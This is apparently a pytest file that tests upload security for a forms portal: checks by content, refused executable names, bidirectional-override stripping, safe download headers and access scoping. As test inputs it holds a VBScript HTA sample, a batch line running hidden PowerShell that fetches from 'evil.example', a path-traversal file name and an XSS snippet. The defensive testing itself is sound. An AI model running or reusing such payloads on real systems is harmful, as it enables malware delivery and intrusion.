"""Attachments: checked by content and size, stored under a random key, served as downloads
only through scoped views."""
import hashlib
from datetime import timedelta
from pathlib import Path

import pytest
from sqlalchemy import select

from formtools import (HEALTH, PDF, POLICE, attach, attachment_ids, complete_answers,
                       post_answers, remove_attachment, request_id)
from models import FormAttachment, FormRequest, FormStatus, db
from models.mixins import utcnow
import world
from world import GATHERING, MANAGER, PANEL_A


def stored_files(app):
    root = Path(app.config["UPLOAD_FOLDER"]) / "forms"
    return {p.name for p in root.rglob("*") if p.is_file()} if root.exists() else set()


def test_upload_is_stored_by_key_and_served_as_a_download(app, client, auth):
    rid = request_id(app, GATHERING, POLICE, "imr")
    auth.login(world.POLICE)
    response = attach(client, rid, PDF, "../../etc/Chronology 2025.pdf")
    assert response.status_code == 302
    with app.app_context():
        attachment = db.session.scalar(select(FormAttachment).where(
            FormAttachment.request_id == rid))
        assert attachment.original_name == "Chronology 2025.pdf"
        assert attachment.content_type == "application/pdf"
        assert attachment.sha256 == hashlib.sha256(PDF).hexdigest()
        assert attachment.size == len(PDF)
        key, file_id = attachment.storage_key, attachment.id
    assert key in stored_files(app) and "Chronology 2025.pdf" not in stored_files(app)
    download = client.get(f"/portal/attachments/{file_id}")
    assert download.status_code == 200 and download.data == PDF
    assert download.headers["Content-Type"] == "application/pdf"
    assert download.headers["Content-Disposition"].startswith("attachment;")
    assert download.headers["X-Content-Type-Options"] == "nosniff"


NOT_ALLOWED = ("Only PDF, Word, Excel, OpenDocument text, PNG, JPEG or plain text files can be "
               "attached.")


@pytest.mark.parametrize("content,name,message", [
    (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200, "report.pdf",
     NOT_ALLOWED),
    (b"\x7fELF\x02\x01\x01" + b"\x00" * 100, "notes.txt", NOT_ALLOWED),
    (b"PK\x03\x04" + b"\x00" * 100, "archive.docx", NOT_ALLOWED),
    (b"", "empty.txt", "The file is empty."),
])
def test_files_are_judged_by_content_not_name(app, client, auth, content, name, message):
    rid = request_id(app, GATHERING, POLICE, "imr")
    auth.login(world.POLICE)
    before = stored_files(app)
    response = attach(client, rid, content, name)
    assert response.status_code == 400 and "was not attached" in response.text
    assert attachment_ids(app, rid) == [] and stored_files(app) == before
    assert message in response.text


# Issue 8 finding 7: plain text that Windows runs as a program or script.
HTA = (b'<html><head><HTA:APPLICATION ID="x"></head><script language="VBScript">\n'
       b'Set s = CreateObject("WScript.Shell")\ns.Run "calc.exe"\n</script></html>\n')
BAT = b"@echo off\r\npowershell -nop -w hidden -c \"iwr http://evil.example/x\"\r\n"


@pytest.mark.parametrize("content,name,extension", [
    (HTA, "invoice.hta", "hta"),
    (BAT, "minutes.pdf.bat", "bat"),
    (b"MZ\x90\x00" + b"\x00" * 200, "report\u202efdp.exe", "exe"),  # shown as "reportexe.pdf"
    (b"%PDF-1.4\n%%EOF\n", "report\u202efdp.exe", "exe"),  # even with PDF content
    (b"Write-Host hi\n", "Notes.PS1", "ps1"),
    (b"plain\n", "setup.js.txt", "js"),
])
def test_executable_and_script_names_are_refused_whatever_the_content(
        app, client, auth, content, name, extension):
    rid = request_id(app, GATHERING, POLICE, "imr")
    auth.login(world.POLICE)
    before = stored_files(app)
    response = attach(client, rid, content, name)
    assert response.status_code == 400
    assert attachment_ids(app, rid) == [] and stored_files(app) == before
    assert f"Files ending in .{extension} cannot be attached" in response.text


def test_a_bidirectional_override_is_removed_and_the_name_ends_as_the_content_is(
        app, client, auth):
    """"scan\u202egnp.txt" shows as "scantxt.png"; stored and downloaded without the override,
    under a name ending in the type found in the content (plain text)."""
    rid = request_id(app, GATHERING, POLICE, "imr")
    auth.login(world.POLICE)
    attach(client, rid, b"just notes\n", "scan\u202egnp.txt")
    attach(client, rid, b"more notes\n", "minutes")
    first, second = attachment_ids(app, rid)
    with app.app_context():
        assert db.session.get(FormAttachment, first).original_name == "scangnp.txt"
        assert db.session.get(FormAttachment, second).original_name == "minutes.txt"
    download = client.get(f"/portal/attachments/{second}")
    assert download.data == b"more notes\n"
    assert download.headers["Content-Disposition"] == "attachment; filename=minutes.txt"
    page = client.get(f"/portal/requests/{rid}").text
    assert "scangnp.txt" in page and "\u202e" not in page


def test_html_is_only_ever_served_as_plain_text_download(app, client, auth):
    rid = request_id(app, GATHERING, POLICE, "imr")
    auth.login(world.POLICE)
    attach(client, rid, b"<html><script>alert(1)</script></html>", "page.html")
    [file_id] = attachment_ids(app, rid)
    download = client.get(f"/portal/attachments/{file_id}")
    assert download.headers["Content-Type"].startswith("text/plain")
    assert download.headers["Content-Disposition"] == "attachment; filename=page.html.txt"
    assert download.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize("app_config", [{"FORM_ATTACHMENT_MAX_BYTES": 1024}])
def test_size_limit(app, client, auth, app_config):
    rid = request_id(app, GATHERING, POLICE, "imr")
    auth.login(world.POLICE)
    before = stored_files(app)
    response = attach(client, rid, b"%PDF-1.4\n" + b"x" * 2000, "big.pdf")
    assert attachment_ids(app, rid) == [] and stored_files(app) == before
    assert response.status_code == 400 and "larger than" in response.text


def test_remove_before_submission_and_reviewers_read_after(app, client, auth):
    rid = request_id(app, GATHERING, POLICE, "imr")
    auth.login(world.POLICE)
    attach(client, rid, PDF, "first.pdf")
    attach(client, rid, b"plain notes\n", "second.txt")
    first, second = attachment_ids(app, rid)
    assert remove_attachment(client, rid, first).status_code == 302
    assert attachment_ids(app, rid) == [second]
    page = client.get(f"/portal/requests/{rid}")
    post_answers(client, rid, complete_answers(page.text), "submit")
    auth.logout()

    auth.login(MANAGER)
    assert client.get(f"/admin/formrequest/attachment/{second}/").data == b"plain notes\n"
    auth.logout()
    auth.login(PANEL_A)  # the form is submitted, not accepted
    assert client.get(f"/admin/formrequest/attachment/{second}/").status_code == 404
    auth.logout()
    auth.login(world.HEALTH)
    assert client.get(f"/portal/attachments/{second}").status_code == 404
    assert request_id(app, GATHERING, HEALTH, "imr")  # health has its own, not this one


def test_files_of_a_submitted_version_stay_when_the_form_is_returned(app, client, auth):
    """Returning a form keeps the submitted version, its files included: the agency may add
    corrected files, not remove what it submitted."""
    rid = request_id(app, GATHERING, POLICE, "imr")
    auth.login(world.POLICE)
    assert attach(client, rid).status_code == 302
    [submitted_file] = attachment_ids(app, rid)
    with app.app_context():
        form_request = db.session.get(FormRequest, rid)
        form_request.submitted_at = utcnow() + timedelta(seconds=1)
        form_request.status = FormStatus.returned
        db.session.commit()
    page = client.get(f"/portal/requests/{rid}")
    assert "part of the submitted version" in page.text
    assert remove_attachment(client, rid, submitted_file).status_code == 409
    with app.app_context():
        assert db.session.get(FormAttachment, submitted_file) is not None
